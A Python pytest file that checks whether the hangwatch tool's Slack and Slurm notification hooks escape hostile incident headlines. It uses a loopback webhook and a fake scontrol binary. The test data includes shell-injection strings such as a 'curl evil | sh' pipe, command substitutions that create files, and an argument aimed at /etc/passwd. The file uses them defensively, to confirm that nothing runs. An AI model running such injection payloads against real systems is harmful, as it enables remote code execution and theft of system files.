"""The hooks of docs/hooks, each run as the watchdog runs one, also with hostile headlines."""

from __future__ import annotations

import asyncio
import json
import os
import re
import threading
from contextlib import contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from hangwatch.console import News
from hangwatch.model.kinds import Certainty, Kind, Reason, State
from hangwatch.model.report import Evidence, RunInfo
from hangwatch.model.snapshot import JobSnapshot
from hangwatch.model.verdict import Verdict
from hangwatch.watchdog.incident.reporter import hook_variables, run_hook

if TYPE_CHECKING:
    from collections.abc import Iterator

HOOKS = Path(__file__).parents[2] / "docs" / "hooks"
VERDICT = Verdict(
    State.HANG,
    Kind.NEVER_ENTERED,
    Reason.DATA_LOADING,
    Certainty.LIKELY,
    culprits=(2, 5),
    headline="Rank 2 never entered all_reduce #46.",
)
HEADLINES = [
    VERDICT.headline,
    '"; curl evil | sh; "',
    "$(touch owned) `touch owned` $HOME ${HOME} \\",
    "' || touch owned; '",
    "<!channel> &amp; *bold* \u202e \U0001f4a3",
    "two\nlines\r\x1b[31m\0nul \udcff",
    '{"text": "mine"}',
    "-o owned @/etc/passwd " + "x" * 5000,
]
FAKE_SCONTROL = '#!/bin/sh\nfor word in "$@"; do printf "%s\\n" "$word" >> calls; done\n'


@pytest.fixture(autouse=True)
def where(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def run(name: str, headline: str, state: State = State.HANG) -> list[str]:
    """Run a hook; what hangwatch would say of it."""
    verdict = replace(VERDICT, headline=headline, state=state)
    info = RunInfo("night-7", ("torchrun",), "2026-01-02T03:04:05.000+00:00")
    evidence = Evidence(info, JobSnapshot(8, ()), (verdict,), "2026-01-02T03:04:05.000+00:00", 1.0)
    report = Path("reports/night-7/incident-001")
    news = News(os.open(os.devnull, os.O_WRONLY | os.O_CLOEXEC))
    asyncio.run(run_hook(str(HOOKS / name), report, hook_variables(evidence, report), news))
    return news.lost


@contextmanager
def webhook(status: int = 200) -> Iterator[tuple[str, list[tuple[str, bytes]]]]:
    """A server on the loopback, and what was posted to it: content type and body."""
    posted: list[tuple[str, bytes]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            size = int(self.headers["Content-Length"])
            posted.append((self.headers["Content-Type"], self.rfile.read(size)))
            self.send_response(status)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """The test's own output stays clean."""

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/hook", posted
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.mark.parametrize("headline", HEADLINES)
def test_slack_gets_one_json_message(
    headline: str, monkeypatch: pytest.MonkeyPatch, where: Path
) -> None:
    with webhook() as (address, posted):
        monkeypatch.setenv("SLACK_WEBHOOK_URL", address)
        assert run("slack.sh", headline) == []
    ((kind, body),) = posted
    assert kind == "application/json"
    message = json.loads(body)
    assert message.keys() == {"text"}
    assert message["text"].startswith("*HANG* in run night-7: ")
    assert "reports/night-7/incident-001" in message["text"]
    assert not re.search("[<>]", message["text"])
    assert list(where.iterdir()) == []


def test_a_webhook_that_refuses_is_mentioned(monkeypatch: pytest.MonkeyPatch) -> None:
    with webhook(403) as (address, _):
        monkeypatch.setenv("SLACK_WEBHOOK_URL", address)
        (said,) = run("slack.sh", "x")
    assert "403" in said
    monkeypatch.delenv("SLACK_WEBHOOK_URL")
    (said,) = run("slack.sh", "x")
    assert "incoming webhook" in said


@pytest.fixture
def fake_scontrol(
    tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In front of PATH: it writes down its arguments, one on a line."""
    directory = tmp_path_factory.mktemp("fake")
    (directory / "scontrol").write_text(FAKE_SCONTROL)
    (directory / "scontrol").chmod(0o755)
    monkeypatch.setenv("PATH", f"{directory}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("SLURM_JOB_ID", "4711")


@pytest.mark.usefixtures("fake_scontrol")
@pytest.mark.parametrize("headline", HEADLINES)
def test_slurm_gets_the_comment_as_one_word(headline: str, where: Path) -> None:
    assert run("slurm.sh", headline) == []
    calls = (where / "calls").read_text().splitlines()
    assert calls[:2] == ["update", "jobid=4711"]
    assert len(calls) == 3
    assert calls[2].startswith("comment=hangwatch: hang: ")
    assert [path.name for path in where.iterdir()] == ["calls"]


@pytest.mark.usefixtures("fake_scontrol")
@pytest.mark.parametrize(("state", "more"), [(State.HANG, ["requeue", "4711"]), (State.SLOW, [])])
def test_slurm_requeues_what_hangs_when_asked_to(
    state: State, more: list[str], where: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HANGWATCH_REQUEUE", "1")
    assert run("slurm.sh", VERDICT.headline, state) == []
    assert (where / "calls").read_text().splitlines()[3:] == more
